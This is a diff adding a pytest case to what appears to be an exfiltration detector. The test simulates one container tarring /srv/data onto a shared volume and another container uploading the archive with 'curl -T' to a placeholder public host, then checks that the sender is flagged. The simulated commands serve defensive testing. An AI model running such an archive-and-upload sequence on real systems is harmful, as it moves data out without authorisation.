@@ -125,3 +125,20 @@ def test_ordinary_lookups_after_an_archive_are_not_a_channel(
     for n, name in enumerate(["api.github.com", "registry-1.docker.io", "_dmarc.example.com"]):
         trace.run(30 + n, "dig", name)
     assert exfil(detect(capsys, str(trace.write(tmp_path, fmt)))) == []
+
+
+@pytest.mark.parametrize("fmt", FORMATS)
+def test_archive_in_one_container_uploaded_from_another_on_a_shared_volume(
+    tmp_path: Path, capsys: pytest.CaptureFixture[str], fmt: str
+) -> None:
+    maker = Trace(container="aa" * 32, ip="10.42.0.7")
+    tar = maker.run(0, "tar", "czf", "/shared/a.tgz", "/srv/data")
+    maker.write_file(0.5, tar, "/shared/a.tgz")
+    sender = Trace(container="bb" * 32, ip="10.42.0.8")  # mounts the same volume at /data
+    curl = sender.run(60, "curl", "-T", "/data/a.tgz", f"https://{PUBLIC}/")
+    sender.send(60.2, curl, PUBLIC, 5_000_000)
+    paths = [maker.write(tmp_path, fmt, "maker"), sender.write(tmp_path, fmt, "sender")]
+    [alert] = exfil(detect(capsys, *map(str, paths)))
+    assert alert["severity_id"] >= 4
+    assert "bbbbbbbbbbbb" in str(alert["container"])  # type: ignore[index]  # the sender's
+    assert "made in container" in str(alert)
